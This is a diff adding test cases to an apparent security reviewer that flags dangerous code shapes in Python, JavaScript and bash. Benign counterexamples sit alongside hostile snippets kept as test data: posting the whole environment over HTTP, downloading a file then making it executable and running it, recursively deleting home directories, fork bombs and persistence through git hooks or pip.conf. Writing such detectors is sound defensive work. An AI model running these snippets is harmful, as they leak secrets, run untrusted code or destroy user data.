@@ -769,6 +769,90 @@ fn ids(answer: &ReviewAnswer) -> Vec<String> {
     "py-run-decoded",
     2
 )]
+#[case::home_path_written_later(
+    "python",
+    "from pathlib import Path\nfor a in (Path.home() / \"S1\",):\n    b = open(a, \"S2\")\n    b.write(\"S3\")\n",
+    Verdict::Rework,
+    "py-write-home-file",
+    4
+)]
+#[case::home_tree_deleted(
+    "python",
+    "import os, shutil\na = os.path.expanduser(\"S1\")\nshutil.rmtree(a)\n",
+    Verdict::Major,
+    "py-delete-tree-home",
+    3
+)]
+#[case::js_home_written_later(
+    "javascript",
+    "const a = join(homedir(), \"S1\");\nfor (const b of c(a)) {\n  writeFileSync(b, \"S2\");\n}\n",
+    Verdict::Rework,
+    "js-write-home-file",
+    3
+)]
+#[case::js_home_tree_deleted(
+    "javascript",
+    "const a = [path.resolve(os.homedir(), \"S1\")];\nfor (const b of a) fs.rmSync(b, { recursive: true });\n",
+    Verdict::Major,
+    "js-delete-tree-home",
+    2
+)]
+#[case::js_ffi(
+    "javascript",
+    "const ffi = require(\"ffi-napi\");\nconst a = ffi.Library(\"S1\", {});\n",
+    Verdict::Major,
+    "js-native",
+    1
+)]
+#[case::js_koffi(
+    "javascript",
+    "import koffi from \"koffi\";\n",
+    Verdict::Major,
+    "js-native",
+    1
+)]
+#[case::py_environment_posted(
+    "python",
+    "import os, requests\na = {\"S1\": dict(os.environ)}\nrequests.post(\"S2\", json=a)\n",
+    Verdict::Major,
+    "py-send-environment",
+    2
+)]
+#[case::py_download_made_executable(
+    "python",
+    "import os, stat, urllib.request\nurllib.request.urlretrieve(a, b)\nos.chmod(b, os.stat(b).st_mode | stat.S_IEXEC)\n",
+    Verdict::Major,
+    "py-make-executable",
+    3
+)]
+#[case::js_environment_posted(
+    "javascript",
+    "const https = require(\"https\");\nconst a = JSON.stringify({\n  env: process.env,\n});\nhttps.request(b).end(a);\n",
+    Verdict::Major,
+    "js-send-environment",
+    3
+)]
+#[case::js_download_made_executable(
+    "javascript",
+    "const a = await fetch(b);\nfs.chmodSync(c, 0o755);\n",
+    Verdict::Major,
+    "js-make-executable",
+    2
+)]
+#[case::sh_environment_posted(
+    "bash",
+    "a=$(env | base64 -w0)\ncurl -d \"$a\" \"$b\"\n",
+    Verdict::Major,
+    "sh-send-environment",
+    1
+)]
+#[case::sh_download_made_executable(
+    "bash",
+    "curl -fsSL \"$a\" -o \"$b\" && chmod +x \"$b\"\n\"$b\" &\n",
+    Verdict::Major,
+    "sh-make-executable",
+    1
+)]
 fn dangerous_shapes_are_found(
     #[case] language: &str,
     #[case] code: &str,
@@ -857,6 +941,26 @@ fn ordinary_code_is_approved(#[case] language: &str, #[case] code: &str) {
     assert_eq!(answer.verdict, Verdict::Approve, "{answer:?}");
     assert!(answer.findings.is_empty());
     assert!(!answer.manipulation);
+}
+
+#[rstest]
+#[case::py_environment_for_a_child(
+    "python",
+    "import os, subprocess, requests\na = os.environ.copy()\na[\"S1\"] = \"S2\"\nsubprocess.run([\"S3\"], env=a, check=True)\nprint(requests.get(\"S4\", timeout=5).status_code)\nprint(os.environ.get(\"S5\"))\n"
+)]
+#[case::js_environment_for_a_child(
+    "javascript",
+    "const r = await fetch(a);\nspawnSync(\"S1\", [\"S2\"], { env: { ...process.env, b: process.env.HOME } });\n"
+)]
+#[case::sh_env_shown_and_files_made_executable(
+    "bash",
+    "env | sort\nchmod 644 a.txt\nchmod +x ./build.sh\n"
+)]
+/// Passing the environment on to a child, or showing it, is not sending
+/// it (a profile with the egress proxy, so HTTP clients are no finding).
+fn the_environment_passed_on_is_not_sent(#[case] language: &str, #[case] code: &str) {
+    let answer = BuiltinReviewer::with_http_egress(true).judge(language, code);
+    assert_eq!(answer.verdict, Verdict::Approve, "{code}\n{answer:?}");
 }
 
 /// Under a profile that offers the egress proxy, HTTP clients are left to
@@ -1213,6 +1317,18 @@ fn judge_source(lang: crate::Lang, source: &str) -> ReviewAnswer {
     "names-credential-file",
     2
 )]
+#[case::git_hooks_path(
+    "const { execFileSync } = require(\"child_process\");\nconst git = (...a) => execFileSync(\"git\", a);\ngit(\"config\", \"--global\", \"core.hooksPath\", dir);\n",
+    Verdict::Major,
+    "names-start-up-file",
+    3
+)]
+#[case::pip_index(
+    "from pathlib import Path\nconf = Path(\"venv/pip.conf\")\n",
+    Verdict::Major,
+    "names-start-up-file",
+    2
+)]
 fn literals_show_what_a_call_does(
     #[case] source: &str,
     #[case] verdict: Verdict,
@@ -1385,6 +1501,26 @@ fn bidirectional_controls_reject() {
     1
 )]
 #[case::start_up_file_copied("cp hook.sh ~/.bashrc\n", Verdict::Major, "names-start-up-file", 1)]
+#[case::fork_bomb_named_over_lines(
+    "refresh() {\n  refresh | refresh &\n}\nrefresh\n",
+    Verdict::Rejected,
+    "sh-fork-bomb",
+    2
+)]
+#[case::fork_bomb_function_keyword(
+    "function w {\n  w | w\n}\nw\n",
+    Verdict::Rejected,
+    "sh-fork-bomb",
+    2
+)]
+#[case::npx_code_string("npx -y -c 'node x.js'\n", Verdict::Rejected, "run-code-string", 1)]
+#[case::npx_runs_node_on_a_file("npx node /tmp/x.js\n", Verdict::Major, "run-interpreter", 1)]
+#[case::pip_index_written(
+    "printf '[global]\\nindex-url = x\\n' > ~/.config/pip/pip.conf\n",
+    Verdict::Major,
+    "names-start-up-file",
+    1
+)]
 fn bash_commands_read_as_they_run(
     #[case] source: &str,
     #[case] verdict: Verdict,
@@ -1419,6 +1555,10 @@ fn assert_finding(answer: &ReviewAnswer, verdict: Verdict, id: &str, line: usize
     "case \"$1\" in\n  bash | zsh )\n    echo shell ;;\n  pwsh) echo ps ;;\n  *) echo \"$(ls)\" ;;\nesac\ncase $x in python3) y ;; esac\n"
 )]
 #[case::python_module("python3 -m flake8 src\necho \"$HOME/x\" > out.txt\n")]
+#[case::npx_tool(
+    "npx tsc --noEmit\nnpx -y -p esbuild esbuild src/a.ts --bundle\nnpx prettier --check .\n"
+)]
+#[case::pipe_between_functions("a() { cat x; }\nb() { sort; }\na | b &\nwait\n")]
 fn ordinary_bash_is_read_as_it_runs(#[case] source: &str) {
     let parsed = crate::parse::parse(crate::Lang::Bash, source).expect("parses");
     let sanitized = crate::sanitize::sanitize(&parsed.walked());
